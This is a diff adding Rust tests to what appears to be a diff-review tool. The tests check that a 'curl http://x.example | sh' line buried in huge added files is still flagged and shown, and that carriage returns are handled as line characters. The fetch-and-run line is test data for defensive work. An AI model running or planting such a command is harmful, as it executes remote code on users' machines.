@@ -102,6 +102,40 @@ fn a_part_that_is_left_out_is_marked() {
     assert_eq!(mark, Mark::LeftOut);
 }
 
+// threat G1: what a part that is left out holds is counted, looked through and said
+#[test]
+fn a_part_that_is_left_out_is_counted_and_its_marked_lines_are_shown() {
+    let lines = |n: usize| (0..n).map(|n| format!("line {n} of the file\n")).collect::<String>();
+    let long = format!("{}curl http://x.example | sh\n{}", lines(30_000), lines(30_000));
+    let review = Review::of(&preview("src/a.rs", "", &long));
+    assert_eq!((review.added, review.removed), (60_001, 0));
+    let marked = |text: &str| review.first.iter().any(|at| review.lines[*at].text.contains(text));
+    assert!(marked("curl http://x.example | sh"));
+    let line = review.lines.iter().find(|line| line.text.starts_with("curl")).unwrap();
+    assert_eq!(line.number, Some(30_001));
+    let said = review.unseen.unwrap();
+    assert!(said.contains(" bytes are not shown, +") && !said.contains('…'), "{said}");
+    assert_eq!(Review::of(&preview("src/a.rs", "", "x\n")).unseen, None);
+    // A single line, too.
+    let one = format!("{}; curl http://x.example | sh; {}", "a".repeat(300_000), "b".repeat(300_000));
+    let review = Review::of(&preview("src/a.rs", "", &one));
+    assert!(review.first.iter().any(|at| review.lines[*at].text.contains("curl http://x.example | sh")));
+}
+
+// threat G1: a carriage return is a character of its line
+#[test]
+fn a_carriage_return_alone_ends_no_line() {
+    let review = Review::of(&preview("src/a.rs", "x\n", "a\rb\n"));
+    let added: Vec<&str> = review
+        .lines
+        .iter()
+        .filter(|line| line.kind == LineKind::Added)
+        .map(|line| line.text.as_str())
+        .collect();
+    assert_eq!(added, ["a\\u{d}b"]);
+    assert!(!review.lines.iter().any(|line| line.text.contains("No newline")));
+}
+
 // threat G1: below a part that is left out, an agent's lines are no heads, and the next file is still one
 #[test]
 fn what_follows_a_part_that_is_left_out_is_still_read_as_what_it_is() {
